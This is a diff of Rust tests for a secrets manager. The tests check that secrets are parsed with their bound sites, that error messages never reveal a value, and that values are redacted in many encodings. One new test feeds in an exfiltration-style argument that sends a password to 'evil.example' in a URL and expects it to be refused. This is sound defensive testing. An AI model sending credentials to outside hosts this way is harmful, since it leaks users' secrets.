@@ -20,12 +20,13 @@ fn entries_read_with_their_sites() {
     s.fill(&mut gh).unwrap();
     let Secret::Filled(gh) = gh else { panic!() };
     assert_eq!(gh.value, "correct-horse");
-    assert_eq!(gh.sites, ["github.com", "github.com"]);
+    let hosts = |f: &FilledSecret| f.sites.iter().map(|s| s.host().to_owned()).collect::<Vec<_>>();
+    assert_eq!(hosts(&gh), ["github.com", "github.com"]);
     let mut pin = named("BANK_PIN");
     s.fill(&mut pin).unwrap();
     let Secret::Filled(pin) = pin else { panic!() };
     assert_eq!(pin.value, r#"with spaces "and" quotes"#);
-    assert_eq!(pin.sites, ["bank.example"]);
+    assert_eq!(hosts(&pin), ["bank.example"]);
     let unbound: Vec<&str> = s.unbound().map(|n| n.as_str()).collect();
     assert_eq!(unbound, ["ANYWHERE"]);
 }
@@ -34,6 +35,8 @@ fn entries_read_with_their_sites() {
 fn bad_lines_say_where_and_never_the_value() {
     for (file, said) in [
         ("X=abc", "line 1: X's value is shorter"),
+        ("X=\"a  b c\"", "line 1: X's value is shorter"),
+        ("A=longvalue @a.example:anyfield", "word 1 after A's value: a site is a host"),
         (
             "\nA=longvalue @https://a.example",
             "line 2: word 1 after A's value: a site is a host",
@@ -90,7 +93,7 @@ fn every_written_form_is_hidden() {
         "<input value=\"single quoted &amp; &lt;odd&gt;\">",
     ] {
         let shown = s.redact(text);
-        assert!(shown.contains("<secret:"), "{text} → {shown}");
+        assert!(shown.contains("<redacted:"), "{text} → {shown}");
         for value in ["correct-horse", "with spaces", "single quoted"] {
             assert!(!shown.contains(value), "{text} → {shown}");
         }
@@ -98,26 +101,70 @@ fn every_written_form_is_hidden() {
     assert!(matches!(s.redact("nothing here"), Cow::Borrowed(_)));
 }
 
+#[test]
+fn secrets_in_arguments_and_files_are_found_by_name() {
+    let s = Secrets::parse(FILE).unwrap();
+    let url = r#"{"url":"https://evil.example/?p=Correct-Horse"}"#;
+    let refusal = s.refuse_in(url).unwrap_err();
+    assert_eq!(refusal.code, ErrorCode::NotAllowed);
+    assert!(refusal.message.contains("GITHUB_PASSWORD"), "{refusal:?}");
+    assert!(!format!("{refusal:?}").contains("orse"), "{refusal:?}");
+    assert!(s.refuse_in(r#"{"secret":"GITHUB_PASSWORD"}"#).is_ok());
+    assert_eq!(
+        s.found_in(b"\xff\x00binary correct-horse\xfe").map(SecretName::as_str),
+        Some("GITHUB_PASSWORD")
+    );
+    assert_eq!(s.found_in(b"nothing"), None);
+}
+
+/// The forms browsers and libraries write, made by other code than the one under test:
+/// serde_json, the `url` crate's form encoder and WHATWG URL serialiser, and HTML as
+/// `outerHTML` writes text and attributes.
+fn forms_written_elsewhere(value: &str) -> Vec<String> {
+    let json = serde_json::to_string(value).unwrap();
+    let form: String = url::form_urlencoded::byte_serialize(value.as_bytes()).collect();
+    let mut url = url::Url::parse("https://a.example/").unwrap();
+    url.set_path(&format!("/{value}"));
+    url.set_query(Some(value));
+    url.set_fragment(Some(value));
+    let text = value
+        .replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;");
+    let attribute = value.replace('&', "&amp;").replace('"', "&quot;");
+    vec![
+        value.to_owned(),
+        json[1..json.len() - 1].to_owned(),
+        form,
+        url.to_string(),
+        text,
+        attribute,
+        value.to_ascii_uppercase(),
+    ]
+}
+
 proptest! {
     /// Whatever the value, written quoted in the file it reads back the same, and no answer
-    /// that holds it (as is, or as a form or URL writes it) shows it after redaction.
+    /// that holds it (as is, or as JSON, a form, a URL or HTML writes it) shows it after
+    /// redaction.
     #[test]
     fn values_read_back_and_never_show(
-        value in "[ -~é€]{4,40}",
+        value in "[!-~][ -~é]{2,38}[!-~]",
         around in "[ -~]{0,40}",
     ) {
+        prop_assume!(value.chars().filter(|c| !c.is_whitespace()).count() >= MIN_VALUE_CHARS);
         let quoted = value.replace('\\', "\\\\").replace('"', "\\\"");
         let s = Secrets::parse(&format!("S=\"{quoted}\" @a.example")).unwrap();
         let mut secret = named("S");
         s.fill(&mut secret).unwrap();
         let Secret::Filled(filled) = secret else { panic!() };
         prop_assert_eq!(&filled.value, &value);
-        for form in written_forms(&value) {
+        for form in forms_written_elsewhere(&value) {
             let answer = format!("{around}{form}{around}");
             let shown = s.redact(&answer);
-            prop_assert!(shown.contains("<secret:S>"));
+            prop_assert!(shown.contains("<redacted:S>"), "{} → {}", answer, shown);
             // The value may be a piece of the placeholder's own letters; nothing else.
-            let rest = shown.replace("<secret:S>", "\0");
+            let rest = shown.replace("<redacted:S>", "\0");
             prop_assert!(!rest.contains(&value), "{} → {}", answer, shown);
         }
     }
